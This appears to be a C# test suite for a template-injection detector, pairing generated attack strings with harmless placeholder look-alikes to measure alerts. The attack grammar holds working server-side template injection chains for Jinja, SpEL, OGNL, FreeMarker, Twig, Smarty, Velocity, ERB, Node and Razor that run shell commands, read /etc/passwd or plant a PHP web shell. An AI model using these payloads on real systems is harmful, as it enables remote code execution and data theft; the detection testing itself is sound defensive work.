using FunctionShield.Findings;

namespace FunctionShield.Tests.Detection.Suites;

/// <summary>Expressions of template engines and expression languages that compute or reach the interpreter; placeholders beside them.</summary>
internal static class TemplateGrammar
{
    public static ClassSuite Suite { get; } = new()
    {
        Rule = Rule.TemplateInput,
        Places = ["query.q", "body.name", "body.subject", "query.template", "body.message", "cookie.theme"],
        Logged = 97,
        Blocked = 88,
        // A statement between {% and %} is logged (low) wherever it comes from a request, so no twin is one. {{process}} is medium: the
        // engine's own object and nothing more, which a placeholder of that name looks like.
        Alarms = 8,
        AlarmsOfAny = 10,
        Attacks =
        [
            "{{«probe»}}", "${«probe»}", "#{«probe»}", "*{«probe»}", "<%= «probe» %>", "@(«probe»)", "${{«probe»}}", "{«probe»}{{«probe»}}", "«noun»{{«probe»}}", "{% «statement» %}", "{{\"«noun»\"*«number»}}", "{{'«noun»'.upper()}}{{«probe»}}", "a{{«probe»}}b", "[[${«probe»}]]", "__${«probe»}__::.x", "#set($x=«probe»)${x}", "{#«noun»#}{{«probe»}}",
            "{{«jinja»}}", "{{ «jinja» }}", "{%- print(«jinja») -%}", "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='«noun»' %}{{c}}{% endif %}{% endfor %}", "{% set x=«jinja» %}{{x}}", "{%with a=«jinja»%}{{a}}{%endwith%}", "${«spel»}", "#{«spel»}", "*{«spel»}", "__${«spel»}__::.x", "%{«ognl»}", "${«ognl»}",
            "${«freemarker»}", "<#assign ex=\"freemarker.template.utility.Execute\"?new()>${ex(\"«cmd»\")}", "[#assign ex='freemarker.template.utility.Execute'?new()]${ex('«cmd»')}", "{{«twig»}}", "{«smarty»}", "«velocity»", "<%= «erb» %>", "<%«erb»%>", "#{«erb»}", "{{«js»}}", "${«js»}", "#{«js»}", "<%= «js» %>", "@{«razor»}", "@(«razor»)", "@«razorpath»", "{{«angular»}}", "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub \"constructor\")}}{{/with}}{{/with}}{{/with}}",
        ],
        Twins =
        [
            "{{«noun»}}", "{{ user.«noun» }}", "{{ «noun» | upper }}", "{{«noun»|default('«adjective»')}}", "Hello {{first_name}}, your «noun» is «adjective»", "${«noun»}", "${«noun»:-«adjective»}", "${env:«noun»}", "${«noun».«noun»}", "#{«noun»}", "*{«noun»}", "@«noun»", "@Model.«noun»", "%{«noun»}", "{«noun»}", "{0} of {1}", "{«number»}", "{{«number»}}", "${«number»}",
            "$«number»{«noun»}", "{{#if «noun»}}«noun»{{/if}}", "{{> «noun»}}", "{{! «sentence» }}", "{{t \"«noun».title\"}}", "[[«noun»]]", "{{date:YYYY-MM-DD}}", "{{UTM_SOURCE}}", "%%«noun»%%", "[%«noun»%]", "#«noun» {color: red}", "a { b: c }", "{a: {b: «number»}}", "f(x) = {«number» * x}", "\\frac{«number»}{«number»}", "\\sqrt{x*«number»}", "$x_{«number»}$ and $y^{«number»}$", "{ \"a\": \"${«noun»}\" }", "`${«noun»} items`", "${{ github.ref }}", "${{ secrets.«noun» }}", "$(«noun»)", "#set the «noun» (soon)", "#if it rains (really)", "#«number» (see «noun»)", "<#«noun»>",
            "{{ «noun» ? '«adjective»' : '«adjective»' }}", "{{ $t('«noun».title') }}", "{{formatDate «noun» \"short\"}}", "{{ 'now' | date: '%Y' }}", "{{{«noun»}}}", "math {{«noun»}} and {«number»}", "{x | x > «number»}", "{n*m}", "@(«first»)", "@(not «adjective»)", "<%@ page language=\"java\" %>", "50%{off}", "100% {«adjective»}", "*{«noun»}* and _{«noun»}_", "${«noun»}.${«noun»}", "#{«noun»} #{«number»}", "${price} * ${qty}",
        ],
        Grammar = new TextGrammar
        {
            ["cmd"] = ["id", "whoami", "ls -la", "cat /etc/passwd"],
            ["probe"] = ["«number»*«number»", "«number» * «number»", "«number»+«number»", "«number»-«number»", "'«noun»'+'«noun»'", "«number»*'7'", "(«number»+«number»)*«number»", "\"«noun»\".toUpperCase()+«number»*«number»"],
            ["statement"] = ["import os", "debug", "set a=«number»*«number»", "print(«number»*«number»)", "include '/etc/passwd'", "if «number»*«number»==«number» %}x{% endif"],
            ["jinja"] =
            [
                "config", "self", "request", "config.items()", "''.__class__", "''.__class__.__mro__[«number»].__subclasses__()", "().__class__.__base__.__subclasses__()", "request.application.__globals__.__builtins__.__import__('os').popen('«cmd»').read()", "cycler.__init__.__globals__.os.popen('«cmd»').read()", "lipsum.__globals__['os'].popen('«cmd»').read()", "url_for.__globals__.os.popen('«cmd»').read()", "get_flashed_messages.__globals__['current_app'].config",
                "[].__class__.__base__", "request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')", "self.__init__.__globals__.__builtins__", "joiner.__init__.__globals__.os", "(''|attr('__class__'))", "namespace.__init__.__globals__", "dict.mro()", "request['__cl'+'ass__']", "''['__class__']['__mro__']", "g.pop.__globals__", "self._TemplateReference__context",
            ],
            ["spel"] =
            [
                "T(java.lang.Runtime).getRuntime().exec('«cmd»')", "T(java.lang.System).getenv()", "new java.lang.ProcessBuilder('«cmd»').start()", "T(org.springframework.util.StreamUtils).copy(x)", "''.getClass().forName('java.lang.Runtime')", "\"\".getClass().forName(\"java.lang.Runtime\").getMethod(\"exec\",x)", "@environment.getProperty('«noun»')", "T(java.nio.file.Files).readAllLines(x)", "new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec('«cmd»').getInputStream()).next()", "''.class.forName('java.lang.Runtime')",
                "pageContext.request.getSession().setAttribute('a','«noun»')", "applicationScope.toString()", "request.getClass().getClassLoader()", "T(String).getClass()", "session.getAttribute('«noun»').getClass()",
            ],
            ["ognl"] = ["(#a=@java.lang.Runtime@getRuntime().exec('«cmd»'))", "#_memberAccess['allowStaticMethodAccess']=true", "@java.lang.Runtime@getRuntime().exec('«cmd»')", "(#context=#attr['struts.valueStack'].context)", "#a=(new java.lang.ProcessBuilder('«cmd»')).start()", "(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)", "#application.get('org.apache.tomcat.InstanceManager')", "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='«cmd»')"],
            ["freemarker"] = ["\"freemarker.template.utility.Execute\"?new()(\"«cmd»\")", "product.getClass().getProtectionDomain()", "\"freemarker.template.utility.ObjectConstructor\"?new()", ".data_model.keySet()?size*«number»", "«noun»?api.class.getResource(\"/\")", "\"«noun»\"?eval_json?api.class"],
            ["twig"] = ["_self.env.registerUndefinedFilterCallback('exec')", "_self.env.getFilter('«cmd»')", "['«cmd»']|filter('system')", "['«cmd»']|map('passthru')|join", "[0]|reduce('system','«cmd»')", "['«cmd»',1]|sort('system')", "app.request.server.all|join(',')", "dump(app)", "_self", "_context|json_encode", "'/etc/passwd'|file_excerpt(1,30)", "source('/etc/passwd')"],
            ["smarty"] = ["php}echo `«cmd»`;{/php", "system('«cmd»')", "Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['c']); ?>\",self::clearConfig())", "if phpinfo()}{/if", "if system('«cmd»')}{/if", "include file='/etc/passwd'", "fetch file='/etc/passwd'", "passthru('«cmd»')"],
            ["velocity"] = ["#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"«cmd»\")", "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))", "$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"«cmd»\")", "#set($s=\"\")$s.getClass().forName(\"java.lang.Runtime\")", "$request.getClass().getClassLoader()", "#evaluate(\"#set($a=«number»*«number»)\")"],
            ["erb"] = ["system('«cmd»')", "`«cmd»`", "IO.popen('«cmd»').read", "File.open('/etc/passwd').read", "Dir.entries('/')", "self.class.name", "%x(«cmd»)", "exec('«cmd»')", "File.read('/etc/passwd')"],
            ["js"] = ["global.process.mainModule.require('child_process').execSync('«cmd»')", "this.constructor.constructor('return process')()", "require('child_process').execSync('«cmd»')", "range.constructor(\"return global.process.mainModule.require('child_process').execSync('«cmd»')\")()", "[].constructor.constructor('«noun»')()", "root.process.mainModule.require('fs')"],
            ["razor"] = ["System.Diagnostics.Process.Start(\"«cmd»\");", "System.IO.File.ReadAllText(\"/etc/passwd\")", "new System.Net.WebClient().DownloadString(\"http://«site»\")", "«number»*«number»", "typeof(System.Diagnostics.Process)"],
            ["razorpath"] = ["System.Diagnostics.Process.Start(\"«cmd»\")", "System.IO.File.ReadAllText(\"/etc/passwd\")", "System.Environment.GetEnvironmentVariable(\"PATH\")"],
            ["angular"] = ["constructor.constructor('alert(1)')()", "$on.constructor('alert(1)')()", "'a'.constructor.prototype.charAt=[].join", "toString().constructor.prototype.charAt=[].join;[1]|orderBy:'x=alert(1)'", "a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'alert(1)')()", "_openBlock.constructor('alert(1)')()"],
        },
    };
}
